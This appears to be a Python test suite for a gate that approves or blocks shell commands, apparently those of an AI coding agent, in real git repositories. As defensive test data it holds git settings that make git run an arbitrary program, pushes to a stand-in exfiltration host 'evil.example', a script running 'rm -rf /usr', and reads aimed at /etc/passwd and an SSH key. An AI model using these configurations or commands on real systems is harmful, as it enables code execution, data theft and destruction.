# SPDX-License-Identifier: Apache-2.0
"""Verdicts that depend on the repository a command runs in: real ones, through the whole gate."""

import contextlib
import json
import os
import shutil
import signal
import subprocess
import sys

import gate

PUSH_CONFIG = {"sanctionedRemotes": ["forge.example.net/team", "*.corp.example"]}


class Repositories:
    def __init__(self, world):
        self.world = world
        self.cwd = world.fresh()
        self.environment = world.environment(
            GIT_AUTHOR_NAME="Ada", GIT_AUTHOR_EMAIL="ada@example.org", GIT_COMMITTER_NAME="Ada",
            GIT_COMMITTER_EMAIL="ada@example.org", GIT_CONFIG_NOSYSTEM="1")
        self.count = 0

    def git(self, directory, *arguments):
        subprocess.run(["git", "-C", str(directory), *arguments], env=self.environment, check=True,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def new(self, name="app", branch="feature"):
        app = self.cwd / name
        self.git(self.cwd, "init", "-q", "-b", branch, str(app))
        (app / "run.sh").write_text("#!/bin/sh\necho x\n", encoding="utf-8")
        self.git(app, "add", ".")
        self.git(app, "commit", "-q", "-m", "one")
        self.git(app, "remote", "add", "origin", "https://forge.example.net/team/app.git")
        return app

    def verdict(self, command, directory, env=None, session=None):
        """(decision, source, reason); a busy machine may take longer than a repository is given."""
        for _ in range(20):
            self.count += 1
            done = self.world.check(command, "--session", session or f"s{self.count}", "--cwd", str(directory), env=env)
            reply = done.json()
            if "in time" not in reply.get("reason", ""):
                break
        return reply["decision"], reply["source"], reply.get("reason", "")

    def allows(self, command, directory, env=None):
        verdict = self.verdict(command, directory, env)
        gate.expect(verdict[0] == "allow", f"{command}: {verdict}")

    def stops(self, command, directory, why="", env=None, source=None):
        verdict = self.verdict(command, directory, env)
        gate.expect(verdict[0] != "allow" and why in verdict[2] and source in (None, verdict[1]),
                    f"{command}: {verdict}")


SHOWING = ("git status", "git diff", "git diff --stat", "git add .", "git stash list", "git commit -m x")

# A setting of the repository's own, and a command that it makes run a program.
BAITS = (
    ("core.fsmonitor", "/tmp/x", "git status"),
    ("core.fsmonitor", "/tmp/x", "git diff"),
    ("core.fsmonitor", "/tmp/x", "git add ."),
    ("diff.external", "/tmp/x", "git diff HEAD"),
    ("diff.x.textconv", "/tmp/x", "git log -p"),
    ("filter.x.clean", "/tmp/x", "git status"),
    ("core.pager", "/tmp/x", "git log"),
    ("pager.log", "/tmp/x", "git log"),
    ("core.sshCommand", "/tmp/x", "git fetch"),
    ("core.editor", "/tmp/x", "git commit"),
    ("gpg.program", "/tmp/x", "git log --show-signature"),
    ("gpg.program", "/tmp/x", "git commit -m x"),
    ("credential.helper", "!/tmp/x", "git push"),
    ("merge.x.driver", "/tmp/x", "git merge side"),
    ("core.hooksPath", "/tmp", "git commit -m x"),
    ("core.worktree", "/tmp", "git add ."),
    ("remote.origin.uploadpack", "/tmp/x", "git pull"),
    ("url.ext::/tmp/x.insteadOf", "https:", "git fetch"),
)


def settings(r, cases):
    app = r.new()
    with cases.case("an ordinary repository"):
        for command in (*SHOWING, "git log --oneline", "git show", "git branch -a", "cd . && git status"):
            r.allows(command, app)
    for number, (name, value, command) in enumerate(BAITS):
        with cases.case(f"{name} and {command}"):
            bait = r.new(f"bait{number}")
            r.git(bait, "config", name, value)
            r.stops(command, bait)
            r.allows("git rev-parse HEAD", bait)
    with cases.case("the user's own settings are the user's"):
        (r.world.home / ".gitconfig").write_text("[core]\n\tpager = delta\n\teditor = vim\n[alias]\n\tst = status\n",
                                                 encoding="utf-8")
        r.allows("git log", app)
        r.allows("git status", app)
    with cases.case("a linked worktree has the settings of its repository"):
        r.git(app, "worktree", "add", "-q", "../linked")
        r.allows("git status", r.cwd / "linked")
        r.git(app, "config", "core.fsmonitor", "/tmp/x")
        r.stops("git status", r.cwd / "linked", "core.fsmonitor")
        r.git(app, "config", "--unset", "core.fsmonitor")
    with cases.case("a bare repository inside the worktree is the one git uses there"):
        r.git(app, "init", "-q", "--bare", "inner.git")
        r.allows("cd inner.git && git status", app)
        r.git(app / "inner.git", "config", "core.fsmonitor", "/tmp/x")
        r.stops("cd inner.git && git status", app)
        r.stops("git -C inner.git status", app)
        r.allows("git status", app)
    with cases.case("no repository at all"):
        (r.cwd / "plain").mkdir()
        r.allows("git status", r.cwd / "plain")
    with cases.case("a variable of the environment leads git elsewhere"):
        r.stops("git status", app, env=r.world.environment(GIT_DIR="/tmp/x"))
        r.stops("git status", app, env=r.world.environment(GIT_CONFIG_COUNT="1"))
        r.allows("git status", app, env=r.world.environment(GIT_EDITOR="true", GIT_PAGER="cat"))
    with cases.case("somebody else's repository"):
        if os.getuid() == 0:
            other = r.new("other")
            os.chown(other, 1234, 1234)
            r.stops("git status", other, "not this user's own")
            os.chown(other, 0, 0)
            os.chown(other / ".git", 1234, 1234)
            r.stops("git status", other, "not this user's own")
    with cases.case("a secret is not included"):
        secret = r.world.home / ".ssh"
        secret.mkdir(mode=0o700)
        (secret / "id_rsa").write_text("[core]\n", encoding="utf-8")
        bait = r.new("including")
        r.git(bait, "config", "include.path", str(secret / "id_rsa"))
        r.stops("git status", bait, "not read for it")


def pushes(r, cases):
    r.world.config(PUSH_CONFIG)
    app = r.new()
    with cases.case("to a sanctioned remote, by name, address and default"):
        for command in ("git push", "git push origin", "git push origin feature", "git push -u origin HEAD",
                        "git push https://forge.example.net/team/other.git", "cd . && git push"):
            r.allows(command, app)
    with cases.case("to a remote that is not"):
        r.git(app, "remote", "add", "leak", "https://evil.example/x.git")
        for command in ("git push leak", "git push leak HEAD:main", "git push https://evil.example/x",
                        "git push git@evil.example:x.git", "git push --repo leak"):
            r.stops(command, app, "evil.example", source="upload")
    with cases.case("a default remote that settings choose"):
        r.git(app, "config", "remote.pushDefault", "leak")
        r.stops("git push", app, "evil.example", source="upload")
        r.git(app, "config", "branch.feature.pushRemote", "origin")
        r.allows("git push", app)
        r.git(app, "config", "--unset", "remote.pushDefault")
        r.git(app, "config", "branch.feature.pushRemote", "leak")
        r.stops("git push", app, "evil.example", source="upload")
        r.git(app, "config", "--unset", "branch.feature.pushRemote")
    with cases.case("another address to push to"):
        r.git(app, "config", "remote.origin.pushurl", "https://evil.example/y.git")
        r.stops("git push", app, "evil.example", source="upload")
        r.allows("git fetch origin", app)
        r.git(app, "config", "--unset", "remote.origin.pushurl")
    with cases.case("an address that the user's settings rewrite"):
        settings_file = r.world.home / ".gitconfig"
        settings_file.write_text('[url "https://evil.example/"]\n\tpushInsteadOf = https://forge.example.net/\n',
                                 encoding="utf-8")
        r.stops("git push", app, "evil.example", source="upload")
        r.stops("git push https://forge.example.net/team/app", app, "evil.example", source="upload")
        settings_file.write_text('[includeIf "gitdir:/x/"]\n\tpath = more\n', encoding="utf-8")
        (r.world.home / "more").write_text('[url "https://evil.example/"]\n\tinsteadOf = https://\n', encoding="utf-8")
        r.stops("git push", app)
        settings_file.unlink()
        r.allows("git push", app)
        settings_folder = r.world.home / ".config/git"
        settings_folder.mkdir(parents=True)
        (settings_folder / "config").write_text('[url "https://evil.example/"]\n\tinsteadOf = https://forge.example.net/\n',
                                                encoding="utf-8")
        r.stops("git push", app, "evil.example", source="upload")
        (settings_folder / "config").unlink()
    with cases.case("with force"):
        r.stops("git push -f", app)
        r.allows("git push --force-with-lease", app)
        for command in ("git push -f origin main", "git push origin +HEAD:main", "git push --force-with-lease origin main",
                        "git push origin :feature"):
            r.stops(command, app, source="fast-deny")
        r.git(app, "checkout", "-q", "-b", "main")
        r.stops("git push -f", app, "protected", source="fast-deny")
        r.stops("git push --force-with-lease", app, "protected", source="fast-deny")
        r.allows("git push", app)
    with cases.case("a mirror, a helper, nobody"):
        r.git(app, "config", "remote.origin.mirror", "true")
        r.stops("git push", app)
        r.git(app, "config", "--unset", "remote.origin.mirror")
        r.git(app, "config", "remote.origin.vcs", "x")
        r.stops("git push", app)
        r.git(app, "config", "--unset", "remote.origin.vcs")
        r.stops("git push nobody", app)


def landed(r, cases):
    """Scripts of programs that nobody knows: only where they come from can speak for them."""
    up = r.new("up", "main")
    for name, text in (("run.sh", "#!/bin/sh\nfrobnicate --all\n"), ("tools/x.py", "import frobnicate\n"),
                       ("any.sh", "#!/bin/sh\nfrobnicate\n\"$@\"\n"), ("evals.sh", "#!/bin/sh\nfrobnicate\neval \"$1\"\n"),
                       ("sources.sh", "#!/bin/sh\nfrobnicate\n. \"$1\"\n"),
                       ("bad.sh", "#!/bin/sh\nrm -rf /usr\n")):
        path = up / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(text, encoding="utf-8")
        path.chmod(0o755)
    r.git(up, "add", ".")
    r.git(up, "commit", "-q", "-m", "scripts")
    r.git(r.cwd, "clone", "-q", f"file://{up}", "app")
    app = r.cwd / "app"
    r.git(app, "checkout", "-q", "-b", "feature", "--track", "origin/main")
    runs = ("./run.sh", "bash run.sh", "./run.sh --fast -v", "python3 tools/x.py", "tools/x.py")
    with cases.case("a clone of anything is no review"):
        r.world.config({"sanctionedRemotes": []})
        for command in runs:
            r.stops(command, app)
    r.git(app, "remote", "set-url", "origin", "https://forge.example.net/team/app.git")
    with cases.case("nor is a remote that came while the session ran"):
        r.verdict("ls", up, session="elsewhere")
        for command in runs:
            verdict = r.verdict(command, app, session="elsewhere")
            gate.expect(verdict[0] != "allow", f"{command}: {verdict}")
    for config in ({"sanctionedRemotes": ["forge.example.net/team"]}, {"policy": {"trustedRemotes": ["forge.example.net"]}}):
        with cases.case(f"landed on a trusted remote: {config}"):
            r.world.config(config)
            for command in runs:
                verdict = r.verdict(command, app)
                gate.expect(verdict[:2] == ("allow", "landed"), f"{command}: {verdict}")
    with cases.case("with files of the worktree"):
        for command in ("./run.sh tools", "./run.sh -v tools/x.py run.sh", "python3 tools/x.py run.sh"):
            verdict = r.verdict(command, app)
            gate.expect(verdict[:2] == ("allow", "landed"), f"{command}: {verdict}")
        (app / "note").write_text("x", encoding="utf-8")
        r.allows("./run.sh note", app)
        # Whether a program in another language runs what it is given is not known: it gets what has landed itself.
        r.stops("python3 tools/x.py note", app)
        (app / "note").unlink()
        for command in ("./any.sh tools", "./any.sh --flag", "./evals.sh tools", "./sources.sh run.sh"):
            r.stops(command, app)
        r.allows("./any.sh", app)
    with cases.case("not on its own, or with operands"):
        for command in ("./run.sh; true", "./run.sh | cat", "./run.sh file", "./run.sh /etc/passwd", "./run.sh > out",
                        "X=1 ./run.sh", "timeout 5 ./run.sh", "./run.sh \"$x\"", "./run.sh &", "(./run.sh)",
                        "./run.sh --eval=/tmp/x", "cd /tmp && ./run.sh"):
            r.stops(command, app)
    with cases.case("a harm in it is one all the same"):
        r.stops("./bad.sh", app)
    with cases.case("changed, committed, pushed elsewhere"):
        (app / "run.sh").write_text("#!/bin/sh\nfrobnicate --more\n", encoding="utf-8")
        r.stops("./run.sh", app)
        r.git(app, "commit", "-q", "-a", "-m", "more")
        r.stops("./run.sh", app)
        r.git(app, "checkout", "-q", "HEAD~1", "--", "run.sh")
        r.allows("./run.sh", app)
    with cases.case("untracked, a link, another repository's"):
        (app / "new.sh").write_text("#!/bin/sh\nfrobnicate\n", encoding="utf-8")
        (app / "new.sh").chmod(0o755)
        r.stops("./new.sh", app)
        (app / "link.sh").symlink_to("run.sh")
        r.stops("./link.sh", app)
        r.git(app, "init", "-q", "inner")
        shutil.copy(app / "run.sh", app / "inner/run.sh")
        r.stops("inner/run.sh", app)
    began(r, cases, app)
    with cases.case("a proof that the line's user switched off"):
        r.world.config({"sanctionedRemotes": ["forge.example.net/team"], "policy": {"trustLandedScripts": False}})
        r.stops("./run.sh", app)


def began(r, cases, app):
    """The remote that the session's repository had at its first decision speaks for what has landed there."""
    r.world.config({"sanctionedRemotes": []})
    url = "https://forge.example.net/team/app.git"

    def landed_in(session, directory, command="./run.sh"):
        return r.verdict(command, directory, session=session)[:2] == ("allow", "landed")

    with cases.case("the remote that a session began with"):
        gate.expect(r.verdict("ls", app, session="one")[0] == "allow", "ls")
        gate.expect(landed_in("one", app), "unchanged")
        r.git(app, "checkout", "-q", "-b", "more", "--track", "origin/main")
        gate.expect(landed_in("one", app), "another branch")
        r.git(app, "remote", "add", "mine", "https://forge.example.net/mine/app.git")
        gate.expect(landed_in("one", app), "another remote beside it")
        r.git(app, "remote", "set-url", "origin", "https://other.example.net/app.git")
        gate.expect(not landed_in("one", app), "another address")
        gate.expect(landed_in("two", app), "a session that begins with it")
        r.git(app, "remote", "set-url", "origin", url)
        gate.expect(landed_in("one", app), "the address back")
        (r.world.home / ".gitconfig").write_text('[url "https://other.example.net/"]\n\tinsteadOf = https://forge.example.net/\n',
                                                 encoding="utf-8")
        gate.expect(not landed_in("one", app), "another address by the user's settings")
        (r.world.home / ".gitconfig").unlink()
        r.git(app, "remote", "rename", "origin", "up")
        r.git(app, "branch", "-q", "--set-upstream-to", "up/main")
        gate.expect(not landed_in("one", app), "another name")
        r.git(app, "remote", "rename", "up", "origin")
        gate.expect(landed_in("one", app), "as it was")
    with cases.case("a first decision of any kind, by a hook"):
        done = r.world.run("hook", "claude", stdin=json.dumps(gate.claude("ls", session="three", cwd=app)).encode())
        gate.expect(done.decision == "allow", done)
        r.git(app, "remote", "set-url", "origin", "https://other.example.net/app.git")
        gate.expect(not landed_in("three", app), "changed since")
        r.git(app, "remote", "set-url", "origin", url)
        gate.expect(landed_in("three", app), "unchanged")
    with cases.case("what a fetch takes from elsewhere"):
        for value in ("+refs/heads/x:refs/remotes/origin/main", "+refs/heads/x*:refs/remotes/origin/*", "+refs/*:refs/*",
                      "refs/heads/x:refs/remotes/origin/HEAD"):
            r.git(app, "config", "--add", "remote.mine.fetch", value)
            gate.expect(not landed_in("one", app), value)
            r.git(app, "config", "--unset-all", "remote.mine.fetch")
        r.git(app, "config", "--add", "remote.origin.fetch", "+refs/pull/*/head:refs/remotes/origin/pull/*")
        gate.expect(landed_in("one", app), "requests kept apart")
    with cases.case("a clone made since, a worktree made since"):
        r.git(r.cwd, "clone", "-q", str(app), "again")
        r.git(r.cwd / "again", "remote", "set-url", "origin", url)
        gate.expect(not landed_in("one", r.cwd / "again"), "a clone")
        gate.expect(landed_in("four", r.cwd / "again"), "a session of its own")
        r.git(app, "worktree", "add", "-q", "-b", "side", "../beside", "origin/main")
        gate.expect(landed_in("one", r.cwd / "beside"), "a worktree")
    with cases.case("a session that began in no repository, or with one that could not be read"):
        (r.cwd / "plain").mkdir(exist_ok=True)
        r.verdict("ls", r.cwd / "plain", session="five")
        gate.expect(not landed_in("five", app), "elsewhere")
        r.verdict("ls", app, env=r.world.environment(GIT_DIR="/tmp/x"), session="six")
        gate.expect(not landed_in("six", app), "unknown")
    with cases.case("what is kept of it is ours and whole, or nothing"):
        kept = list(r.world.state.glob("*.origin"))
        gate.expect(len(kept) >= 6, kept)
        for path in kept:
            gate.expect(path.stat().st_mode & 0o777 == 0o600 and path.stat().st_size % 65 == 0, path)
            text = path.read_text(encoding="ascii")
            gate.expect("example" not in text and set(text) <= set("0123456789abcdef\n"), text)
            path.write_text(text[:100], encoding="ascii")
        gate.expect(not landed_in("one", app), "cut")
        for path in kept:
            path.unlink()
            path.symlink_to("/dev/zero")
        gate.expect(not landed_in("one", app), "a link")
        for path in kept:
            path.unlink()
    with cases.case("sessions that keep nothing"):
        reply = r.world.check("./run.sh", "--cwd", str(app)).json()
        gate.expect(reply["decision"] != "allow", reply)
        done = r.world.run("check", "--batch", stdin=json.dumps({"id": "x", "command": "./run.sh", "session": "one",
                                                                 "cwd": str(app)}).encode() + b"\n")
        gate.expect(json.loads(done.out)["decision"] != "allow", done)
        gate.expect(not list(r.world.state.glob("*.origin")), "a file")


def failures(r, cases):
    app = r.new()
    r.allows("git status", app)
    with cases.case("a reader that is killed is no answer"):
        for moment in range(12):
            process = r.world.start("hook", "claude")
            process.stdin.write(json.dumps(gate.claude("git status", session=f"k{moment}", cwd=app)).encode())
            process.stdin.close()
            process.stdin = None
            pid = gate.wait_child(process.pid, "git", 2.0)
            if pid is not None:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)
            out, err = process.communicate(timeout=30)
            reply = gate.Result(process.returncode, out, err, 0).decision
            # It may have had its say already; else nobody had.
            gate.expect(reply in (("allow", "deny", "ask") if pid else ("allow",)), f"{pid}: {reply}")
    with cases.case("without its program there are no facts"):
        whole = r.world.program
        for part in ("broker/auto-classifier", "worker/auto-classifier-worker", "netproc/auto-classifier-netproc"):
            target = r.cwd / "build" / part
            target.parent.mkdir(parents=True)
            shutil.copy(gate.BUILD / part, target)
        r.world.program = r.cwd / "build/broker/auto-classifier"
        r.stops("git status", app, "makes git run is not known")
        r.allows("ls", app)
        r.world.program = whole
    with cases.case("rows of several repositories"):
        bait = r.new("bait")
        r.git(bait, "config", "core.fsmonitor", "/tmp/x")
        rows = []
        for number in range(40):
            rows.append({"id": str(number), "command": "git status", "cwd": str(bait if number % 2 else app)})
        done = r.world.run("check", "--batch", stdin="\n".join(map(json.dumps, rows)).encode() + b"\n")
        replies = [json.loads(line) for line in done.out.decode().splitlines()]
        gate.expect(len(replies) == 40, done)
        gate.expect(not [x for x in replies if int(x["id"]) % 2 and x["decision"] == "allow"], replies)
        gate.expect([x for x in replies if not int(x["id"]) % 2 and x["decision"] == "allow"], replies)
    with cases.case("settings that change between rows"):
        process = r.world.start("check", "--batch")
        answers = []
        for value in (None, "/tmp/x", None, "/tmp/x"):
            if value is None:
                subprocess.run(["git", "-C", str(app), "config", "--unset", "core.fsmonitor"], check=False,
                               env=r.environment)
            else:
                r.git(app, "config", "core.fsmonitor", value)
            process.stdin.write(json.dumps({"id": "x", "command": "git status", "cwd": str(app)}).encode() + b"\n")
            process.stdin.flush()
            answers.append(json.loads(process.stdout.readline()))
        process.communicate(timeout=30)
        gate.expect("allow" not in (answers[1]["decision"], answers[3]["decision"]), answers)


def main():
    if shutil.which("git") is None:
        gate.skip("git is not installed")
    world = gate.World()
    cases = gate.Cases()
    for part in (settings, pushes, landed, failures):
        part(Repositories(world), cases)
    world.close()
    return cases.close()


sys.exit(main())
